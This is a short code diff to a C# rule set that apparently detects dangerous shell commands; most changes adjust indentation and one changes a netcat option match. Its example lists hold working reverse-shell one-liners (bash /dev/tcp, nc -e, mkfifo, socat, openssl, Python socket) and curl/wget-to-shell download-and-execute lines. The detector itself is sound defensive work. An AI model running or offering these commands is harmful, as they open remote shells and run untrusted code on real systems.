@@ -18,7 +18,7 @@ internal static class CodeRules
             Catches =
             [
                 "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444", "nc 10.0.0.1 4444 | bash",
-                    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+                "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
                 "socat TCP-LISTEN:4444 EXEC:/bin/sh", "exec 5<>/dev/tcp/10.0.0.1/4444", "openssl s_client -connect 10.0.0.1:443 | sh",
                 "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
             ],
@@ -32,7 +32,7 @@ internal static class CodeRules
         {
             Match = c => c.Runs(Language.Shell, text => text.HasSymbol(Symbol.Remote))
                 ?? c.Runs(Language.Script, text => text.HasSymbol(Symbol.Remote))
-                    ?? c.Runs(Language.Script, text => CodeTraits.RunsDownload(text) && !CodeTraits.IsReverseShell(text)) ?? RunsAddress(c),
+                ?? c.Runs(Language.Script, text => CodeTraits.RunsDownload(text) && !CodeTraits.IsReverseShell(text)) ?? RunsAddress(c),
             Catches =
             [
                 "curl https://example.com/i.sh | sh", "bash <(curl -s example.com)", "eval \"$(wget -qO- example.com)\"",
@@ -69,7 +69,7 @@ internal static class CodeRules
     {
         if (c.Name is "nc" or "ncat" or "netcat")
         {
-            return c.Option('e', "exec") ?? c.Option('c', "sh-exec") ?? c.Option('\0', "lua-exec")
+            return c.Option('e', "exec") ?? c.Option('c', "sh-exec") ?? c.Option("lua-exec")
                 ?? c.When(c.Input?.HasSymbol(Symbol.ShellAnswer) is true);
         }
 
